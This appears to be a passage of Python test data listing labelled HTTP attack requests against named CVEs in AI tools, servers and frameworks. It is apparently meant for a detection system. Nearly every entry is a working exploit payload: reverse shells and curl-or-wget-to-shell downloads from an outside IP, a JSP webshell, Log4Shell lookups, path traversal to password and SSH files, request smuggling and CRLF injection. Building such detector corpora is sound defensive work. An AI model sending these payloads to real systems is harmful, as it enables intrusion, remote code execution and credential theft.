    ("rce", "Ray CVE-2023-48022 ShadowRay unauthenticated job submission", "raw", "",
     _raw("POST /api/jobs/ HTTP/1.1", "ray.example.com:8265", ("User-Agent: " + _PY, _JSON),
          '{"entrypoint":"bash -c \'bash -i >& /dev/tcp/45.61.1.9/4444 0>&1\'","runtime_env":{},"job_id":null,"metadata":{"job_submission_id":"raysubmit_x1"}}')),
    ("rce", "Ray CVE-2023-6019 cpu_profile format command injection", "path", "",
     "/worker/cpu_profile?pid=3354&ip=127.0.0.1&duration=5&native=0&format=`curl${IFS}45.61.1.9/r|sh`"),
    ("ptrav", "MLflow CVE-2023-1177 model version source file:// to arbitrary read", "raw", "",
     _raw("POST /ajax-api/2.0/mlflow/model-versions/create HTTP/1.1", "mlflow.example.com", ("User-Agent: " + _PY, _JSON),
          '{"name":"x1","source":"file:///home/ubuntu/.ssh/"}')),
    ("ptrav", "MLflow get-artifact path traversal", "path", "",
     "/get-artifact?path=../../../../../../etc/passwd&run_uuid=3f0c6a1b2d4e4f5a"),
    ("ptrav", "Gradio CVE-2024-1561 component_server move_resource_to_block_cache file copy", "json", "",
     '{"component_id":"1","data":"/etc/passwd","fn_name":"move_resource_to_block_cache","session_hash":"aaaaaaaaaaa"}'),
    ("ptrav", "Gradio CVE-2023-51449 file= route traversal", "raw", "",
     _raw("GET /file=/tmp/gradio/..%2F..%2F..%2F..%2Fproc%2Fself%2Fenviron HTTP/1.1", "demo.example.com", ("User-Agent: " + _PY,))),
    ("ptrav", "ComfyUI view endpoint filename traversal", "path", "", "/view?filename=..%2F..%2F..%2F..%2Fetc%2Fpasswd&type=input&subfolder="),
    ("rce", "ComfyUI-Manager install arbitrary custom node from attacker git URL", "body:text/plain", "customnode/install/git_url",
     "https://github.com/comfyui-nodes-helper/ComfyUI-Impact-Loader.git; curl -s http://45.61.1.9/c|sh"),
    ("ssrf", "Ollama CVE-2024-37032 Probllama pull from attacker registry with traversal digest", "json", "",
     '{"name":"http://45.61.1.9:8080/library/evil:latest","insecure":true}'),
    ("ptrav", "Ollama CVE-2024-39719 create path file existence oracle", "json", "",
     '{"name":"x","path":"/etc/shadow"}'),
    ("generic", "Langflow CVE-2025-3248 validate/code decorator exec", "raw", "",
     _raw("POST /api/v1/validate/code HTTP/1.1", "langflow.example.com", ("User-Agent: " + _PY, _JSON),
          '{"code":"@exec(\\"raise Exception(__import__(\'subprocess\').check_output([\'id\']))\\")\\ndef foo():\\n  pass"}')),
    ("generic", "Flowise CVE-2025-59528 customMCP config evaluated as JavaScript", "raw", "",
     _raw("POST /api/v1/node-load-method/customMCP HTTP/1.1", "flowise.example.com", ("User-Agent: " + _PY, _JSON),
          '{"loadMethod":"listActions","inputs":{"mcpServerConfig":"({x:(function(){const cp = process.mainModule.require(\\"child_process\\");'
          'cp.execSync(\\"curl http://45.61.1.9/f|sh\\");return 1;})()})"}}')),
    ("generic", "n8n CVE-2025-68613 workflow expression sandbox escape", "json", "",
     '{"name":"x","nodes":[{"parameters":{"value":"={{ (function(){ return this.process.mainModule.require(\'child_process\').execSync(\'id\').toString() })() }}"},'
     '"name":"Set","type":"n8n-nodes-base.set","typeVersion":1,"position":[0,0]}],"connections":{}}'),
    ("rce", "MCP Inspector CVE-2025-49596 sse stdio command launch", "path", "",
     "/sse?transportType=stdio&command=bash&args=-c%20%22curl%20http%3A%2F%2F45.61.1.9%2Fm%7Csh%22"),
    ("generic", "Selenium Grid unauthenticated session with python binary (cryptojacking campaign)", "raw", "",
     _raw("POST /wd/hub/session HTTP/1.1", "grid.example.com:4444", ("User-Agent: " + _PY, _JSON),
          '{"capabilities":{"alwaysMatch":{"browserName":"chrome","goog:chromeOptions":{"binary":"/usr/bin/python3",'
          '"args":["-cimport base64;exec(base64.b64decode(b\'aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCA0NS42MS4xLjkvc3xzaCIp\'))"]}}}}')),

    # --- exposed infrastructure APIs and persistent bot campaigns ---
    ("rce", "Docker Engine API container create with host root bind (cryptomining campaign)", "raw", "",
     _raw("POST /v1.41/containers/create HTTP/1.1", "10.0.0.5:2375", ("User-Agent: Docker-Client/20.10.7 (linux)", _JSON),
          '{"Image":"alpine","Cmd":["chroot","/mnt","sh","-c","curl -s http://45.61.1.9/d.sh | bash"],"HostConfig":{"Binds":["/:/mnt:rw"],"Privileged":true}}')),
    ("rce", "Hadoop YARN ResourceManager unauthenticated application submit", "raw", "",
     _raw("POST /ws/v1/cluster/apps HTTP/1.1", "yarn.example.com:8088", ("User-Agent: " + _PY, _JSON),
          '{"application-id":"application_1700000000000_0001","application-name":"get-shell","am-container-spec":'
          '{"commands":{"command":"wget -q -O - http://45.61.1.9/y.sh | bash"}},"application-type":"YARN"}')),
    ("java", "Apache HugeGraph CVE-2024-27348 Gremlin sandbox bypass", "raw", "",
     _raw("POST /gremlin HTTP/1.1", "graph.example.com:8080", ("User-Agent: " + _PY, _JSON),
          '{"gremlin":"Thread thread = Thread.currentThread();Class clz = Class.forName(\\"java.lang.Thread\\");'
          'java.lang.reflect.Field field = clz.getDeclaredField(\\"name\\");field.setAccessible(true);field.set(thread, \\"SL7\\");'
          'Class processBuilderClass = Class.forName(\\"java.lang.ProcessBuilder\\");'
          'java.lang.reflect.Constructor constructor = processBuilderClass.getConstructor(java.util.List.class);'
          'java.util.List command = java.util.Arrays.asList(\\"bash\\", \\"-c\\", \\"curl 45.61.1.9/h|sh\\");'
          'Object processBuilderInstance = constructor.newInstance(command);'
          'java.lang.reflect.Method startMethod = processBuilderClass.getMethod(\\"start\\");startMethod.invoke(processBuilderInstance);",'
          '"bindings":{},"language":"gremlin-groovy","aliases":{}}')),
    ("java", "Log4Shell JNDI in X-Api-Version header from ongoing campaigns", "header:X-Api-Version", "X-Api-Version",
     "${jndi:ldap://45.61.1.9:1389/Basic/Command/Base64/d2dldCBodHRwOi8vNDUuNjEuMS45L2w0aiAtTyAvdG1wL2w=}"),
    ("java", "Log4Shell obfuscated lookup in User-Agent", "header:User-Agent", "User-Agent",
     "${${::-j}${lower:n}${::-d}${upper:i}:${::-l}${::-d}${::-a}${::-p}://${hostName}.c8a2k1.oast.online/a}"),
    ("php", "PHPUnit eval-stdin.php RCE still among top bot requests", "raw", "",
     _raw("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", "www.example.com",
          ("User-Agent: " + _UA, "Content-Type: text/plain"), "<?php echo(md5(\"Hello PHPUnit\")); ?>")),
    ("php", "ThinkPHP invokefunction call_user_func_array botnet payload", "path", "",
     "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=wget http://45.61.1.9/t.sh -O /tmp/t.sh"),
    ("rce", "Apache HTTP Server CVE-2021-41773/42013 cgi-bin traversal to sh still sprayed", "raw", "",
     _raw("POST /cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/.%%32%65/bin/sh HTTP/1.1", "www.example.com",
          ("User-Agent: " + _UA, "Content-Type: text/plain"),
          "echo Content-Type: text/plain; echo; cd /tmp; wget http://45.61.1.9/a.sh; sh a.sh")),
    ("crlf", "Apache mod_proxy CVE-2023-25690 request splitting via RewriteRule capture", "raw", "",
     _raw("GET /categories/1%20HTTP/1.1%0d%0aHost:%20localhost%0d%0a%0d%0aGET%20/admin/delete?user=1 HTTP/1.1",
          "www.example.com", ("User-Agent: " + _PY,))),
    ("crlf", "nuclei CRLF injection probe setting a cookie", "path", "", "/%0d%0aSet-Cookie:crlfinjection=crlfinjection"),
    ("crlf", "CRLF header injection in redirect parameter", "query", "redirect",
     "/dashboard\r\nSet-Cookie: session=attacker\r\nLocation: https://evil.example.net/"),
    ("protocol", "CL.TE request smuggling against load balancer front end", "raw", "",
     "POST / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: " + _UA + "\r\nContent-Type: application/x-www-form-urlencoded\r\n"
     "Content-Length: 49\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\nFoo: x"),
    ("scanner", "ScreenConnect CVE-2024-1709 SetupWizard trailing-path auth bypass", "raw", "",
     _raw("POST /SetupWizard.aspx/x HTTP/1.1", "support.example.com", ("User-Agent: " + _PY, _FORM),
          "__EVENTTARGET=&__EVENTARGUMENT=&__VIEWSTATE=%2FwEPDwUKLTcxMjQyMzE4NmRk&ctl00%24Main%24wizard%24StartNavigationTemplateContainerID%24StartNextButton=Next")),
    ("scanner", "SAP NetWeaver CVE-2025-31324 metadatauploader unauthenticated upload", "raw", "",
     _raw("POST /developmentserver/metadatauploader?CONTENTTYPE=MODEL&CLIENT=1 HTTP/1.1", "sap.example.com",
          ("User-Agent: " + _PY, "Content-Type: application/octet-stream"),
          "PK\x03\x04\x14\x00\x00\x00\x08\x00helper.jsp<%@page import=\"java.io.*\"%><%Runtime.getRuntime().exec(request.getParameter(\"cmd\"));%>")),
    ("scanner", "Laravel .env credential harvesting probe", "path", "", "/.env"),
    ("scanner", "Spring Boot heapdump download probe", "path", "", "/actuator/heapdump"),
    ("scanner", "Git config exposure probe by credential stealers", "raw", "",
     _raw("GET /.git/config HTTP/1.1", "www.example.com", ("User-Agent: Mozilla/5.0 (l9explore/1.2.2)", "Accept-Encoding: gzip"))),
]
